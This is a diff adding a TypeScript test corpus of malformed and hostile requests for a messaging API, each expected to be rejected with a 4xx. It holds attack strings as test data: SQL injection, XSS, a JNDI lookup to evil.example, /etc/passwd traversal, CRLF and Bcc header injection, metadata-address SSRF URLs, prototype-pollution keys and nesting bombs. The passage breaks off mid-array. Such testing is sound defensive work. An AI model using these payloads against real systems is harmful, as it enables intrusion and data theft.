@@ -1,0 +1,512 @@
+// The bad-input corpus: malformed requests, one table per endpoint. Each must
+// get a 4xx with the error envelope (naming `param` where one is given here),
+// store nothing (no message, template or sender), and never a 5xx. To cover a new endpoint, add a table below
+// and list it in CORPUS.
+import { smsBody } from "../helpers.ts";
+
+export interface Expected {
+  status: number;
+  code?: string;
+  /** The param the error must name; omitted when no single param is at fault. */
+  param?: string;
+}
+
+export type Body = { json: unknown } | { raw: string; contentType?: string } | { form: string };
+
+export interface BadRequest extends Expected {
+  name: string;
+  method: string;
+  path: string;
+  body?: Body;
+  /** Replaces the valid API key header; null sends none. */
+  authorization?: string | null;
+  headers?: Record<string, string>;
+}
+
+const invalid = (param: string, code = "parameter_invalid"): Expected => ({ status: 400, code, param });
+const unknownParam = (param: string): Expected => invalid(param, "parameter_unknown");
+
+// Strings an attacker tries in every field that has rules.
+const INJECTIONS = [
+  "' OR '1'='1' --",
+  '"; DROP TABLE messages; --',
+  "<script>alert(1)</script>",
+  "{{7*7}}${7*7}",
+  "${jndi:ldap://evil.example/a}",
+  "../../../../etc/passwd",
+  "%00%0d%0aSet-Cookie: x=1",
+];
+
+// Unicode and control-character edge cases, placed inside a value that is
+// otherwise valid. (Spaces, dashes and invisible formatting characters inside
+// a phone number are normalized away, as libphonenumber does; not listed.)
+const ODD_CHARACTERS: [string, string][] = [
+  ["a NUL byte", "\u0000"],
+  ["a right-to-left override", "\u202e"],
+  ["a lone surrogate", "\ud800"],
+  ["fullwidth digits", "０１"],
+  ["a newline", "\n"],
+  ["a tab", "\t"],
+  ["an escape character", "\u001b[31m"],
+];
+
+// ---------------------------------------------------------------- POST /v1/messages
+
+const create = (name: string, body: Body, expected: Expected, extra: Partial<BadRequest> = {}): BadRequest => ({
+  name: `POST /v1/messages: ${name}`,
+  method: "POST",
+  path: "/v1/messages",
+  body,
+  ...expected,
+  ...extra,
+});
+
+/** A valid SMS body with one field replaced (undefined removes it). */
+const withField = (field: string, value: unknown) => {
+  const body: Record<string, unknown> = smsBody();
+  if (value === undefined) delete body[field];
+  else body[field] = value;
+  return { json: body };
+};
+const withContent = (content: unknown, base: Record<string, unknown> = {}) => ({ json: smsBody({ content, ...base }) });
+const email = (content: unknown) => withContent(content, { channel: "EMAIL", to: "ana@example.com" });
+const template = (content: Record<string, unknown>) => withContent({ template_id: "auth_otp", ...content }, { channel: "WHATSAPP" });
+
+const brokenBodies: BadRequest[] = [
+  create("truncated JSON", { raw: '{"channel":"SMS","to":', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  create("an open brace", { raw: "{", contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  create("an empty JSON body", { raw: "", contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  create("whitespace as JSON", { raw: "  \n ", contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  create("single-quoted JSON", { raw: "{'channel':'SMS'}", contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  create("a trailing comma", { raw: '{"channel":"SMS",}', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  create("JSON with a comment", { raw: '{"channel":"SMS" /* hi */}', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  create("NaN in JSON", { raw: '{"channel":NaN}', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  // A leading byte-order mark is tolerated; what follows is still validated.
+  create("a byte-order mark before incomplete JSON", { raw: '\ufeff{"channel":"SMS"}', contentType: "application/json" }, invalid("to")),
+  create("invalid UTF-8 escapes", { raw: '{"to":"\\uZZZZ"}', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  create("a JSON array", { json: [smsBody()] }, { status: 400, code: "invalid_body" }),
+  create("a JSON string", { json: "channel=SMS" }, { status: 400, code: "invalid_body" }),
+  create("a JSON number", { json: 42 }, { status: 400, code: "invalid_body" }),
+  create("JSON null", { json: null }, { status: 400, code: "invalid_body" }),
+  create("JSON true", { json: true }, { status: 400, code: "invalid_body" }),
+  create("an empty object", { json: {} }, invalid("channel")),
+  create("an empty form", { form: "" }, invalid("channel")),
+  create("no content type", { raw: JSON.stringify(smsBody()), contentType: "" }, { status: 415, code: "unsupported_media_type" }),
+  create("text/plain", { raw: JSON.stringify(smsBody()), contentType: "text/plain" }, { status: 415, code: "unsupported_media_type" }),
+  create("XML", { raw: "<message><channel>SMS</channel></message>", contentType: "application/xml" }, { status: 415, code: "unsupported_media_type" }),
+  create("multipart", { raw: "--x\r\nContent-Disposition: form-data; name=channel\r\n\r\nSMS\r\n--x--", contentType: "multipart/form-data; boundary=x" }, {
+    status: 415,
+    code: "unsupported_media_type",
+  }),
+  create("a body over 128 KiB", { json: smsBody({ content: { text: "x".repeat(130 * 1024) } }) }, { status: 413, code: "body_too_large" }),
+  create(
+    "a JSON nesting bomb",
+    { raw: `{"channel":"SMS","to":"+14155550123","content":${"[".repeat(5000)}${"]".repeat(5000)}}`, contentType: "application/json" },
+    invalid("content"),
+  ),
+  create("a JSON object nesting bomb", { raw: `{"channel":"SMS","to":"+14155550123","content":{"text":${'{"a":'.repeat(3000)}1${"}".repeat(3000)}}}`, contentType: "application/json" }, invalid("content[text]")),
+  create("a form nesting bomb", { form: `channel=SMS&to=%2B14155550123&content${"[a]".repeat(50)}=x` }, { status: 400, code: "invalid_form_body" }),
+  create("a form with 300 params", { form: Array.from({ length: 300 }, (_, i) => `p${i}=1`).join("&") }, { status: 400, code: "invalid_form_body" }),
+  create("a form array over its limit", { form: `channel=SMS&to=%2B14155550123&${Array.from({ length: 30 }, (_, i) => `content[text][${i}]=a`).join("&")}` }, {
+    status: 400,
+    code: "invalid_form_body",
+  }),
+  create("duplicate form keys for to", { form: "channel=SMS&to=%2B14155550123&to=%2B14155550124&content[text]=hi" }, invalid("to")),
+  create("duplicate form keys for channel", { form: "channel=SMS&channel=EMAIL&to=%2B14155550123&content[text]=hi" }, invalid("channel")),
+  create("a form array for channel", { form: "channel[]=SMS&to=%2B14155550123&content[text]=hi" }, invalid("channel")),
+  create("broken percent-encoding in a form", { form: "channel=SMS&to=%ZZ&content[text]=hi" }, invalid("to")),
+  create("form content as a plain string", { form: "channel=SMS&to=%2B14155550123&content=hello" }, invalid("content")),
+  create("form __proto__ key", { form: "channel=SMS&to=%2B14155550123&content[text]=hi&__proto__[admin]=1" }, unknownParam("__proto__[admin]")),
+  create("form nested __proto__ key", { form: "channel=SMS&to=%2B14155550123&content[text]=hi&content[__proto__][x]=1" }, unknownParam("content[__proto__][x]")),
+];
+
+const wrongTypes: BadRequest[] = [
+  ...[1, true, null, [], {}, "", "FAX", "sms ", "voice"].map((value) => create(`channel ${JSON.stringify(value)}`, withField("channel", value), invalid("channel"))),
+  create("channel missing", withField("channel", undefined), invalid("channel")),
+  ...[14155550123, null, [], {}, "", "+1", "14155550123", "+999999999999999", "+1 415 555 0123 ext. 9", "+14155550123;ext=9", `+${"1".repeat(400)}`, "ana@example.com"].map((value) =>
+    create(`to ${JSON.stringify(value).slice(0, 40)}`, withField("to", value), invalid("to")),
+  ),
+  create("to missing", withField("to", undefined), invalid("to")),
+  ...["ana@", "@example.com", "ana@exa mple.com", "ana@@example.com", "+14155550123", `${"a".repeat(250)}@example.com`].map((value) =>
+    create(`email to ${value.slice(0, 40)}`, { json: { channel: "EMAIL", to: value, content: { subject: "Hi", text: "Hello" } } }, invalid("to")),
+  ),
+  ...[null, 42, "", "sender-id-too-long", "!!!", "12345", "a".repeat(321)].map((value) =>
+    create(`from ${JSON.stringify(value).slice(0, 40)}`, withField("from", value), invalid("from")),
+  ),
+  create("content missing", withField("content", undefined), invalid("content")),
+  ...[null, "hello", [], 7].map((value) => create(`content ${JSON.stringify(value)}`, withContent(value), invalid("content"))),
+  create("content {}", withContent({}), invalid("content[text]")),
+  create("sms text empty", withContent({ text: "" }), invalid("content[text]")),
+  create("sms text a number", withContent({ text: 123 }), invalid("content[text]")),
+  create("sms text null", withContent({ text: null }), invalid("content[text]")),
+  create("sms text over 1600 characters", withContent({ text: "x".repeat(1601) }), invalid("content[text]")),
+  create("sms content with an unknown field", withContent({ text: "hi", media_url: "https://x.example/a.png" }), unknownParam("content[media_url]")),
+  create("whatsapp text over 4096 characters", withContent({ text: "x".repeat(4097) }, { channel: "WHATSAPP" }), invalid("content[text]")),
+  create("email without subject", email({ text: "Hello" }), invalid("content[subject]")),
+  create("email without text or html", email({ subject: "Hi" }), invalid("content[text]")),
+  create("email subject over 998 characters", email({ subject: "s".repeat(999), text: "Hello" }), invalid("content[subject]")),
+  create("email html over 100000 characters", email({ subject: "Hi", html: "h".repeat(100_001) }), invalid("content[html]")),
+  create("template_id with spaces", template({ template_id: "Auth OTP" }), invalid("content[template_id]")),
+  create("template_id too long", template({ template_id: "t".repeat(65) }), invalid("content[template_id]")),
+  create("template_id a number", template({ template_id: 12 }), invalid("content[template_id]")),
+  create("template variables not an object", template({ variables: "code=1" }), invalid("content[variables]")),
+  create("template variable name with a dash", template({ variables: { "bad-name": "1" } }), invalid("content[variables][bad-name]")),
+  create("template variable value an object", template({ variables: { code: { nested: 1 } } }), invalid("content[variables][code]")),
+  create("template variable value over 1024 characters", template({ variables: { code: "9".repeat(1025) } }), invalid("content[variables][code]")),
+  create(
+    "more than 50 template variables",
+    template({ variables: Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`v${i}`, "1"])) }),
+    invalid("content[variables]"),
+  ),
+  create("an infinite number variable", { raw: '{"channel":"WHATSAPP","to":"+14155550123","content":{"template_id":"otp","variables":{"code":1e400}}}', contentType: "application/json" }, invalid("content[variables][code]")),
+  create("a template with an unknown field", template({ locale: "en" }), unknownParam("content[locale]")),
+  ...["", "not a url", "ftp://files.example/hook", "javascript:alert(1)", "http://169.254.169.254/latest/meta-data", "http://10.0.0.1/hook", "https://user:pass@hooks.example/x", "http://metadata/", `https://hooks.example/${"a".repeat(2048)}`, 42].map((value) =>
+    create(`status_callback ${JSON.stringify(value).slice(0, 40)}`, withField("status_callback", value), invalid("status_callback")),
+  ),
+  create("an unknown field", withField("priority", "high"), unknownParam("priority")),
+  create("a field in the wrong case", withField("Channel", "SMS"), unknownParam("Channel")),
+  create("a __proto__ field", { raw: JSON.stringify(smsBody()).replace(/}$/, ',"__proto__":{"admin":true}}'), contentType: "application/json" }, unknownParam("__proto__")),
+  create("a constructor field", withField("constructor", { prototype: {} }), unknownParam("constructor")),
+];
+
+const oddStrings: BadRequest[] = [
+  ...ODD_CHARACTERS.flatMap(([what, char]) => [
+    create(`channel with ${what}`, withField("channel", `sms${char}`), invalid("channel")),
+    create(`to with ${what}`, withField("to", `+1415555${char}0123`), invalid("to")),
+    create(`template_id with ${what}`, template({ template_id: `otp${char}` }), invalid("content[template_id]")),
+    create(`email to with ${what}`, { json: { channel: "EMAIL", to: `ana${char}@example.com`, content: { subject: "Hi", text: "Hello" } } }, invalid("to")),
+  ]),
+  create("channel of only whitespace", withField("channel", "   "), invalid("channel")),
+  create("channel with a zero-width space", withField("channel", "s\u200bms"), invalid("channel")),
+  create("channel in fullwidth letters", withField("channel", "ＳＭＳ"), invalid("channel")),
+];
+
+const injections: BadRequest[] = INJECTIONS.flatMap((value) => [
+  create(`injection in channel: ${value}`, withField("channel", value), invalid("channel")),
+  create(`injection in to: ${value}`, withField("to", value), invalid("to")),
+  create(`injection in from: ${value}`, withField("from", value), invalid("from")),
+  create(`injection in template_id: ${value}`, template({ template_id: value }), invalid("content[template_id]")),
+  create(`injection in a variable name: ${value}`, template({ variables: { [value]: "1" } }), invalid(`content[variables][${value}]`)),
+  create(`injection in status_callback: ${value}`, withField("status_callback", value), invalid("status_callback")),
+  create(`injection as a field name: ${value}`, withField(value, "1"), unknownParam(value)),
+]);
+
+const badIdempotencyKeys: BadRequest[] = [
+  create("an empty Idempotency-Key", withField("to", "+14155550123"), { status: 400, code: "idempotency_key_invalid" }, { headers: { "Idempotency-Key": "" } }),
+  create("an Idempotency-Key of 256 characters", withField("to", "+14155550123"), { status: 400, code: "idempotency_key_invalid" }, {
+    headers: { "Idempotency-Key": "k".repeat(256) },
+  }),
+  create("an Idempotency-Key with a tab", withField("to", "+14155550123"), { status: 400, code: "idempotency_key_invalid" }, {
+    headers: { "Idempotency-Key": "a\tb" },
+  }),
+  create("an Idempotency-Key and broken JSON", { raw: "{", contentType: "application/json" }, { status: 400, code: "invalid_json" }, {
+    headers: { "Idempotency-Key": "corpus-broken-json" },
+  }),
+  create("an Idempotency-Key and an invalid body", withField("to", "nope"), invalid("to"), { headers: { "Idempotency-Key": "corpus-invalid-body" } }),
+];
+
+// ---------------------------------------------------------------- GET /v1/messages
+
+const list = (name: string, query: string, expected: Expected): BadRequest => ({
+  name: `GET /v1/messages?${query}: ${name}`,
+  method: "GET",
+  path: `/v1/messages?${query}`,
+  ...expected,
+});
+
+const b64url = (text: string) => btoa(text).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
+const validId = `msg_${"0".repeat(32)}`;
+
+const listCases: BadRequest[] = [
+  ...["0", "101", "-1", "abc", "1.5", "", "1e2", "0x10", "9".repeat(30), "10&limit=20"].map((value) => list("bad limit", `limit=${value}`, invalid("limit"))),
+  ...[
+    ["garbage", "!!!"],
+    ["not base64 JSON", "abc"],
+    ["JSON without dir", b64url(JSON.stringify({ id: validId }))],
+    ["a bad direction", b64url(JSON.stringify({ id: validId, dir: "up" }))],
+    ["a bad id", b64url(JSON.stringify({ id: "msg_1", dir: "next" }))],
+    ["an extra field", b64url(JSON.stringify({ id: validId, dir: "next", admin: true }))],
+    ["filters of the wrong type", b64url(JSON.stringify({ id: validId, dir: "next", filters: { status: 1 } }))],
+    ["a forged invalid filter", b64url(JSON.stringify({ id: validId, dir: "next", filters: { status: "hacked" } }))],
+    ["a forged unknown filter", b64url(JSON.stringify({ id: validId, dir: "next", filters: { account_id: "acct_x" } }))],
+    ["an injection", b64url("' OR 1=1 --")],
+    ["too long", "a".repeat(2000)],
+    ["empty", ""],
+    ["percent-encoded NUL", "%00"],
+  ].map(([what, cursor]) => list(`cursor ${what}`, `cursor=${cursor}`, invalid("cursor"))),
+  list("an unknown param", "foo=1", unknownParam("foo")),
+  list("starting_after (not ours)", `starting_after=${validId}`, unknownParam("starting_after")),
+  list("bad status", "status=sending", invalid("status")),
+  list("bad channel", "channel=fax", invalid("channel")),
+  list("bad to", "to=abc", invalid("to")),
+  list("bad created[gte]", "created[gte]=yesterday", invalid("created[gte]")),
+  list("negative created[lte]", "created[lte]=-5", invalid("created[lte]")),
+  list("created without an operator", "created=1", unknownParam("created")),
+  ...INJECTIONS.map((value) => list("injection in status", `status=${encodeURIComponent(value)}`, invalid("status"))),
+  ...INJECTIONS.map((value) => list("injection in to", `to=${encodeURIComponent(value)}`, invalid("to"))),
+];
+
+// ---------------------------------------------------------------- GET /v1/messages/:id
+
+const retrieve = (name: string, id: string, expected: Expected): BadRequest => ({
+  name: `GET /v1/messages/${id.slice(0, 40)}: ${name}`,
+  method: "GET",
+  path: `/v1/messages/${id}`,
+  ...expected,
+});
+
+const notFound: Expected = { status: 404, code: "resource_missing", param: "id" };
+
+const retrieveCases: BadRequest[] = [
+  retrieve("an unknown id", validId, notFound),
+  retrieve("not an id", "hello", notFound),
+  retrieve("an id over 64 characters", `msg_${"a".repeat(80)}`, invalid("id")),
+  retrieve("another type's id", `acct_${"0".repeat(32)}`, notFound),
+  ...INJECTIONS.map((value) => retrieve("injection", encodeURIComponent(value), notFound)),
+  retrieve("a unicode id", encodeURIComponent("msg_ü😀"), notFound),
+];
+
+// ---------------------------------------------------------------- GET /v1/messages/:id/events
+
+const request = (name: string, method: string, path: string, expected: Expected, extra: Partial<BadRequest> = {}): BadRequest => ({
+  name,
+  method,
+  path,
+  ...expected,
+  ...extra,
+});
+
+const eventsCases: BadRequest[] = [
+  request("GET events of an unknown message", "GET", `/v1/messages/${validId}/events`, notFound),
+  request("GET events of a non-id", "GET", "/v1/messages/hello/events", notFound),
+  request("GET events of an id over 64 characters", "GET", `/v1/messages/msg_${"a".repeat(80)}/events`, invalid("id")),
+  ...INJECTIONS.map((value) => request(`GET events of an injection: ${value}`, "GET", `/v1/messages/${encodeURIComponent(value)}/events`, notFound)),
+];
+
+// ---------------------------------------------------------------- /v1/templates
+
+const templateBody = (overrides: Record<string, unknown> = {}) => ({ json: { id: "corpus_otp", sms: { text: "Your code is {{code}}" }, ...overrides } });
+const createTemplate = (name: string, body: Body, expected: Expected, extra: Partial<BadRequest> = {}): BadRequest =>
+  request(`POST /v1/templates: ${name}`, "POST", "/v1/templates", expected, { body, ...extra });
+const updateTemplate = (name: string, id: string, body: Body, expected: Expected): BadRequest =>
+  request(`POST /v1/templates/${id.slice(0, 40)}: ${name}`, "POST", `/v1/templates/${id}`, expected, { body });
+
+const templateCases: BadRequest[] = [
+  createTemplate("truncated JSON", { raw: '{"id":"corpus_otp","sms":', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  createTemplate("a JSON array", { json: [templateBody().json] }, { status: 400, code: "invalid_body" }),
+  createTemplate("text/plain", { raw: JSON.stringify(templateBody().json), contentType: "text/plain" }, { status: 415, code: "unsupported_media_type" }),
+  createTemplate("a body over 128 KiB", templateBody({ sms: { text: "x".repeat(130 * 1024) } }), { status: 413, code: "body_too_large" }),
+  createTemplate("a form nesting bomb", { form: `id=corpus_otp&sms${"[a]".repeat(50)}=x` }, { status: 400, code: "invalid_form_body" }),
+  createTemplate("form __proto__ key", { form: "id=corpus_otp&sms[text]=hi&sms[__proto__][x]=1" }, unknownParam("sms[__proto__][x]")),
+  createTemplate("no body for any channel", { json: { id: "corpus_otp" } }, { status: 400 }),
+  createTemplate("no id", { json: { sms: { text: "hi" } } }, invalid("id")),
+  ...[null, 42, "", "Auth_OTP", "auth-otp", "auth otp", "t".repeat(65), "ü"].map((value) =>
+    createTemplate(`id ${JSON.stringify(value).slice(0, 40)}`, templateBody({ id: value }), invalid("id")),
+  ),
+  ...[null, "", 7, "x".repeat(1601), "Hi {{first-name}}", "Code {{code", "{{}}"].map((value) =>
+    createTemplate(`sms text ${JSON.stringify(value).slice(0, 40)}`, templateBody({ sms: { text: value } }), invalid("sms[text]")),
+  ),
+  createTemplate("sms body a string", templateBody({ sms: "hi" }), invalid("sms")),
+  createTemplate("an unknown field in the sms body", templateBody({ sms: { text: "hi", media_url: "https://x.example/a.png" } }), unknownParam("sms[media_url]")),
+  createTemplate("email without subject", templateBody({ sms: undefined, email: { text: "Hi" } }), invalid("email[subject]")),
+  createTemplate("email without text or html", templateBody({ sms: undefined, email: { subject: "Hi" } }), invalid("email[text]")),
+  createTemplate("an email subject with a line break", templateBody({ sms: undefined, email: { subject: "Hi\r\nBcc: x@evil.example", text: "Hi" } }), invalid("email[subject]")),
+  createTemplate("a WhatsApp name with capitals", templateBody({ whatsapp: { name: "AuthOTP", language: "en" } }), invalid("whatsapp[name]")),
+  createTemplate("a WhatsApp language that is not a code", templateBody({ whatsapp: { name: "otp", language: "English" } }), invalid("whatsapp[language]")),
+  createTemplate("a WhatsApp parameter that is not a variable name", templateBody({ whatsapp: { name: "otp", language: "en", body_params: ["a b"] } }), invalid("whatsapp[body_params][0]")),
+  createTemplate("WhatsApp body_params not a list", templateBody({ whatsapp: { name: "otp", language: "en", body_params: "code" } }), invalid("whatsapp[body_params]")),
+  createTemplate("more than 50 variables", templateBody({ sms: { text: Array.from({ length: 51 }, (_, i) => `{{v${i}}}`).join(" ") } }), { status: 400 }),
+  createTemplate("an unknown channel body", templateBody({ push: { text: "hi" } }), unknownParam("push")),
+  ...ODD_CHARACTERS.map(([what, char]) => createTemplate(`id with ${what}`, templateBody({ id: `otp${char}` }), invalid("id"))),
+  ...INJECTIONS.flatMap((value) => [
+    createTemplate(`injection in id: ${value}`, templateBody({ id: value }), invalid("id")),
+    createTemplate(`injection in a WhatsApp name: ${value}`, templateBody({ whatsapp: { name: value, language: "en" } }), invalid("whatsapp[name]")),
+    createTemplate(`injection as a field name: ${value}`, templateBody({ [value]: "1" }), unknownParam(value)),
+  ]),
+  createTemplate("an empty Idempotency-Key", templateBody(), { status: 400, code: "idempotency_key_invalid" }, { headers: { "Idempotency-Key": "" } }),
+  request("GET /v1/templates?limit=0", "GET", "/v1/templates?limit=0", invalid("limit")),
+  request("GET /v1/templates?limit=101", "GET", "/v1/templates?limit=101", invalid("limit")),
+  request("GET /v1/templates with a garbage cursor", "GET", "/v1/templates?cursor=!!!", invalid("cursor")),
+  request("GET /v1/templates with a cursor whose id is not a template id", "GET", `/v1/templates?cursor=${b64url(JSON.stringify({ id: "Auth OTP", dir: "next" }))}`, invalid("cursor")),
+  request("GET /v1/templates with a message filter", "GET", "/v1/templates?status=failed", unknownParam("status")),
+  request("GET an unknown template", "GET", "/v1/templates/missing", notFound),
+  request("GET a template id over 64 characters", "GET", `/v1/templates/${"a".repeat(65)}`, invalid("id")),
+  ...INJECTIONS.map((value) => request(`GET a template by an injection: ${value}`, "GET", `/v1/templates/${encodeURIComponent(value)}`, notFound)),
+  updateTemplate("an unknown template", "missing", { json: { sms: { text: "hi" } } }, notFound),
+  updateTemplate("a new id", "missing", { json: { id: "renamed" } }, unknownParam("id")),
+  updateTemplate("an unclosed placeholder", "missing", { json: { sms: { text: "{{ oops" } } }, invalid("sms[text]")),
+  updateTemplate("an id over 64 characters", "a".repeat(65), { json: { sms: { text: "hi" } } }, invalid("id")),
+  updateTemplate("broken JSON", "missing", { raw: "{", contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  request("DELETE an unknown template", "DELETE", "/v1/templates/missing", notFound),
+  request("DELETE a template id over 64 characters", "DELETE", `/v1/templates/${"a".repeat(65)}`, invalid("id")),
+  create("template_id of a template the account does not have", template({ variables: { code: "1" } }), invalid("content[template_id]", "resource_missing")),
+];
+
+// ---------------------------------------------------------------- /v1/senders
+
+const senderBody = (overrides: Record<string, unknown> = {}) => ({ json: { channel: "sms", address: "+14155550100", ...overrides } });
+const createSender = (name: string, body: Body, expected: Expected, extra: Partial<BadRequest> = {}): BadRequest =>
+  request(`POST /v1/senders: ${name}`, "POST", "/v1/senders", expected, { body, ...extra });
+const validSenderId = `snd_${"0".repeat(32)}`;
+
+const senderCases: BadRequest[] = [
+  createSender("truncated JSON", { raw: '{"channel":"sms","address":', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
+  createSender("JSON null", { json: null }, { status: 400, code: "invalid_body" }),
+  createSender("XML", { raw: "<sender><channel>sms</channel></sender>", contentType: "application/xml" }, { status: 415, code: "unsupported_media_type" }),
+  createSender("a body over 128 KiB", senderBody({ name: "x".repeat(130 * 1024) }), { status: 413, code: "body_too_large" }),
+  createSender("form __proto__ key", { form: "channel=sms&address=%2B14155550100&__proto__[admin]=1" }, unknownParam("__proto__[admin]")),
+  createSender("an empty body", { json: {} }, invalid("channel")),
+  ...[null, 1, "", "fax", "sms ", "ＳＭＳ"].map((value) => createSender(`channel ${JSON.stringify(value)}`, senderBody({ channel: value }), invalid("channel"))),
+  ...[null, 14155550100, "", "4155550100", "+1", "omniflow_verify", "!!!", "+1 415 555 0100 ext. 9", "a".repeat(255)].map((value) =>
+    createSender(`address ${JSON.stringify(value).slice(0, 40)}`, senderBody({ address: value }), invalid("address")),
+  ),
+  ...["ana@", "Shop <hi@shop.example>", "+14155550100", `${"a".repeat(250)}@example.com`].map((value) =>
+    createSender(`email address ${value.slice(0, 40)}`, senderBody({ channel: "email", address: value }), invalid("address")),
+  ),
+  createSender("a phone_number_id on an sms sender", senderBody({ phone_number_id: "1065403" }), invalid("phone_number_id")),
+  createSender("a phone_number_id that is not numeric", senderBody({ channel: "whatsapp", phone_number_id: "abc" }), invalid("phone_number_id")),
+  createSender("a name on an sms sender", senderBody({ name: "Shop" }), invalid("name")),
+  ...["<Shop>", 'Sh"op', "Shop\r\nBcc: x@evil.example", "", "n".repeat(101)].map((value) =>
+    createSender(`email name ${JSON.stringify(value).slice(0, 40)}`, senderBody({ channel: "email", address: "hi@shop.example", name: value }), invalid("name")),
+  ),
+  ...["maybe", 1, null, "TRUE"].map((value) => createSender(`default ${JSON.stringify(value)}`, senderBody({ default: value }), invalid("default"))),
+  createSender("an unknown field", senderBody({ priority: 1 }), unknownParam("priority")),
+  createSender("an address the account already has", senderBody({ address: "+15005550006" }), { status: 409, code: "resource_already_exists", param: "address" }),
+  ...ODD_CHARACTERS.map(([what, char]) => createSender(`address with ${what}`, senderBody({ address: `omni${char}` }), invalid("address"))),
+  ...INJECTIONS.flatMap((value) => [
+    createSender(`injection in address: ${value}`, senderBody({ address: value }), invalid("address")),
+    createSender(`injection in an email address: ${value}`, senderBody({ channel: "email", address: value }), invalid("address")),
+    createSender(`injection in phone_number_id: ${value}`, senderBody({ channel: "whatsapp", phone_number_id: value }), invalid("phone_number_id")),
+  ]),
+  createSender("an Idempotency-Key with a tab", senderBody(), { status: 400, code: "idempotency_key_invalid" }, { headers: { "Idempotency-Key": "a\tb" } }),
+  request("GET /v1/senders?limit=abc", "GET", "/v1/senders?limit=abc", invalid("limit")),
+  request("GET /v1/senders with a message cursor", "GET", `/v1/senders?cursor=${b64url(JSON.stringify({ id: validId, dir: "next" }))}`, invalid("cursor")),
+  request("GET /v1/senders with a message filter", "GET", "/v1/senders?channel=sms", unknownParam("channel")),
+  request("GET an unknown sender", "GET", `/v1/senders/${validSenderId}`, notFound),
+  request("GET a sender id over 64 characters", "GET", `/v1/senders/snd_${"0".repeat(70)}`, invalid("id")),
+  ...INJECTIONS.map((value) => request(`GET a sender by an injection: ${value}`, "GET", `/v1/senders/${encodeURIComponent(value)}`, notFound)),
+  request("DELETE an unknown sender", "DELETE", `/v1/senders/${validSenderId}`, notFound),
+  request("DELETE a message id as a sender", "DELETE", `/v1/senders/${validId}`, notFound),
+  request("POST /v1/senders/:id", "POST", `/v1/senders/${validSenderId}`, { status: 405, code: "method_not_allowed" }, { body: senderBody() }),
+];
+
+// ---------------------------------------------------------------- /v1/account
+
+const accountCases: BadRequest[] = [
+  request("POST /v1/account/webhook_secret/roll with an empty Idempotency-Key", "POST", "/v1/account/webhook_secret/roll", { status: 400, code: "idempotency_key_invalid" }, {
+    headers: { "Idempotency-Key": "" },
+  }),
+  request("POST /v1/account/webhook_secret/roll with an overlong Idempotency-Key", "POST", "/v1/account/webhook_secret/roll", { status: 400, code: "idempotency_key_invalid" }, {
+    headers: { "Idempotency-Key": "r".repeat(256) },
+  }),
+  request("GET /v1/account/webhook_secret/roll", "GET", "/v1/account/webhook_secret/roll", { status: 405, code: "method_not_allowed" }),
+  request("PUT /v1/account", "PUT", "/v1/account", { status: 405, code: "method_not_allowed" }, { body: { json: { name: "x" } } }),
+];
+
+// ---------------------------------------------------------------- provider receipts (public, signed)
+
+const invalidSignature: Expected = { status: 401, code: "invalid_signature" };
+const twilioForm = "MessageSid=SM123&MessageStatus=delivered";
+const receiptCases: BadRequest[] = [
+  request("Twilio receipt without a signature", "POST", "/v1/providers/twilio/status?message_id=" + validId, invalidSignature, { authorization: null, body: { form: twilioForm } }),
+  request("Twilio receipt with a wrong signature", "POST", "/v1/providers/twilio/status", invalidSignature, {
+    authorization: null,
+    body: { form: twilioForm },
+    headers: { "X-Twilio-Signature": "bm90IGEgc2lnbmF0dXJl" },
+  }),
+  request("Twilio receipt with an injection as body", "POST", "/v1/providers/twilio/status", invalidSignature, { authorization: null, body: { form: "' OR 1=1 --" } }),
+  request("WhatsApp handshake with a wrong token", "GET", "/v1/providers/whatsapp/webhook?hub.mode=subscribe&hub.verify_token=guess&hub.challenge=1", invalidSignature, {
+    authorization: null,
+  }),
+  request("WhatsApp handshake with a wrong mode", "GET", "/v1/providers/whatsapp/webhook?hub.mode=unsubscribe&hub.verify_token=whatsapp-verify-token", invalidSignature, {
+    authorization: null,
+  }),
+  request("WhatsApp receipt without a signature", "POST", "/v1/providers/whatsapp/webhook", invalidSignature, { authorization: null, body: { json: { entry: [] } } }),
+  request("WhatsApp receipt with a wrong signature", "POST", "/v1/providers/whatsapp/webhook", invalidSignature, {
+    authorization: null,
+    body: { raw: "{", contentType: "application/json" },
+    headers: { "X-Hub-Signature-256": `sha256=${"0".repeat(64)}` },
+  }),
+  request("Resend receipt without Svix headers", "POST", "/v1/providers/resend/webhook", invalidSignature, { authorization: null, body: { json: { type: "email.delivered" } } }),
+  request("Resend receipt with a wrong signature", "POST", "/v1/providers/resend/webhook", invalidSignature, {
+    authorization: null,
+    body: { json: { type: "email.delivered" } },
+    headers: { "svix-id": "msg_1", "svix-timestamp": String(Math.floor(Date.now() / 1000)), "svix-signature": "v1,bm90IGEgc2lnbmF0dXJl" },
+  }),
+  request("Resend receipt with a stale timestamp", "POST", "/v1/providers/resend/webhook", invalidSignature, {
+    authorization: null,
+    body: { json: { type: "email.delivered" } },
+    headers: { "svix-id": "msg_1", "svix-timestamp": "1", "svix-signature": "v1,bm90IGEgc2lnbmF0dXJl" },
+  }),
+];
+
+// ---------------------------------------------------------------- routing and auth (every endpoint)
+
+const unauthorized = (code: string): Expected => ({ status: 401, code });
+const ENDPOINTS: [string, string, Body?][] = [
+  ["POST", "/v1/messages", { json: smsBody() }],
+  ["GET", "/v1/messages"],
+  ["GET", `/v1/messages/${validId}`],
+  ["GET", `/v1/messages/${validId}/events`],
+  ["POST", "/v1/templates", templateBody()],
+  ["GET", "/v1/templates"],
+  ["GET", "/v1/templates/auth_otp"],
+  ["POST", "/v1/templates/auth_otp", { json: { sms: { text: "hi" } } }],
+  ["DELETE", "/v1/templates/auth_otp"],
+  ["POST", "/v1/senders", senderBody()],
+  ["GET", "/v1/senders"],
+  ["GET", `/v1/senders/${validSenderId}`],
+  ["DELETE", `/v1/senders/${validSenderId}`],
+  ["GET", "/v1/account"],
